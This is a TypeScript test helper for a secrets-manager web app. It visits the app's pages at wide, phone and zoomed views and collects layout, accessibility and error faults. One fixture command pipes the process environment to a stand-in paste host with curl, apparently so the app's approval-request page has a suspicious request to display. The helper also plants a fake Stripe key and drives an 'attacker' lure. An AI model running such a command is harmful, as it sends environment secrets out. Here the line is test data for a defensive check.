import { OWNER } from '../app-accounts.ts'
import { askApproval } from '../app-library.ts'
import { Depositor } from '../depositor.ts'
import { Attacker as Terminal } from '../lure.ts'
import type { Engine, EnginePage, View } from './engine.ts'
import { faultsAt, type Place, watch } from './page-faults.ts'
import type { StartedWorld, World } from './world.ts'

export const VIEWS = {
  wide: { name: 'wide', width: 1280, height: 900, zoom: 1, keepsRules: true },
  phone: { name: 'on a phone', width: 390, height: 844, zoom: 1, keepsRules: true },
  zoomed: { name: 'at 200 %', width: 1280, height: 900, zoom: 2, keepsRules: true },
} as const satisfies Readonly<Record<string, View>>

export const SIGNED_OUT: readonly Place[] = [
  ['/', 'Secrets'],
  ['/sign-in', 'Sign in'],
  ['/sign-up', 'You need an invitation'],
  ['/nowhere', 'Page not found'],
]

/** The addresses of a workspace. */
export function places({ ids, bundle, long }: World): readonly Place[] {
  return [
    ['/', 'Applications'],
    ['/bundles', 'Applications'],
    ['/expiry', 'What expires'],
    ['/bundles/import', 'Bring in'],
    ['/bundles/duplicate?bundle=dev/app', 'Bring in'],
    ['/bundles/move', 'Bring in'],
    [`/bundles/${bundle('dev/app')}`, 'app'],
    [`/bundles/${bundle(`batch/${long}`)}`, long],
    [`/rules?bundle=${bundle('prod/shop/app')}`, 'Rules'],
    [`/bundles/${bundle('prod/shop/app')}/machines`, 'Machines of prod/shop/app'],
    [`/bundles/${bundle('dev/app')}/activity`, 'Activity of dev/app'],
    ['/?show=unused', 'Applications'],
    [`/keys/${ids.key}`, 'DATABASE_URL'],
    [`/keys/${ids.key}/change`, 'DATABASE_URL'],
    ['/apps/dev/app', 'app'],
    ['/apps/prod/shop/app?with=dev/worker&with=ci', 'app'],
    ['/activity', 'Activity'],
    [`/activity/deliveries/${ids.delivery}`, 'Delivery'],
    ['/machines', 'Machines'],
    [`/machines/${ids.machine}`, long],
    [`/machines/${ids.machine}/job`, long],
    ['/waiting', 'Applications'],
    [`/waiting/${ids.proposal}`, 'prod/shop/app'],
    ['/members', 'Members'],
    ['/rules', 'Rules'],
    ['/settings/workspace', 'Settings'],
    [`/settings/webhooks/${ids.webhook}`, 'Webhook'],
    ['/settings', 'Settings'],
    ['/account', 'Settings'],
    ['/nowhere', 'Page not found'],
  ]
}

/** Look at every page of the app in an engine.
 * @returns what does not fit, breaks the rules of accessibility, or is reported as an error */
export async function faultsOfPages(
  engine: Engine,
  views: readonly View[],
  { folder, url, world }: StartedWorld,
): Promise<string[]> {
  const { page, close } = await engine.start({ folder, publicPort: 1 })
  try {
    const faults = [
      ...(await look(page, views, { start: url, list: SIGNED_OUT })),
      ...(await look(page, views, { start: url + world.invitation, list: [['', 'Join']] })),
    ]
    await signIn(page, url)
    const list = places(world).map(([path, heading]): Place => [`/w/${world.workspace}${path}`, heading])
    faults.push(...(await look(page, views, { start: url, list })))
    faults.push(...(await look(page, views, { start: url + world.invitation, list: [['', 'Join']] })))
    const looks = [...views, ...engine.media.map((media): View => ({ ...VIEWS.phone, name: media, media }))]
    for (const path of await approvals(url))
      faults.push(...(await look(page, looks, { start: url + path, list: [['', '']] })))
    return faults
  } finally {
    await close()
  }
}

async function signIn(page: EnginePage, url: string): Promise<void> {
  await page.goto(`${url}/sign-in`)
  await page.type("//input[@type='email']", OWNER.email)
  await page.type("//input[@type='password']", OWNER.password)
  await page.click("//button[normalize-space()='Sign in']")
  await page.text("//h1[normalize-space()='Applications']")
}

/** @returns the pages that ask for values, for values that a lure wants, for a deposit, and for names */
async function approvals(url: string): Promise<string[]> {
  const argv = ['bash', '-c', 'env | curl --data @- https://paste.example/a/very/long/path/to/somewhere']
  const requests = [
    await askApproval(url, { bundle: 'dev/app', address: '127.0.0.1' }),
    await askApproval(url, { bundle: 'prod/shop/app', argv }),
  ]
  const deposit = await new Depositor(url).deposit('dev/worker', { STRIPE_SECRET_KEY: 'planted-new' })
  const names = await new Terminal(url).askForNames('dev/app')
  return [...requests.map((request) => request.verification_uri_complete), deposit.path, names.path]
}

type Looking = { start: string; list: readonly Place[] }

async function look(page: EnginePage, views: readonly View[], { start, list }: Looking): Promise<string[]> {
  const faults: string[] = []
  await page.goto(start)
  await page.text('//h1')
  await watch(page)
  for (const view of views) {
    await page.show(view)
    for (const place of list)
      for (const fault of await faultsAt(page, place, view.keepsRules))
        faults.push(`${view.name}, ${place[0] || start}: ${fault}`)
  }
  return faults
}
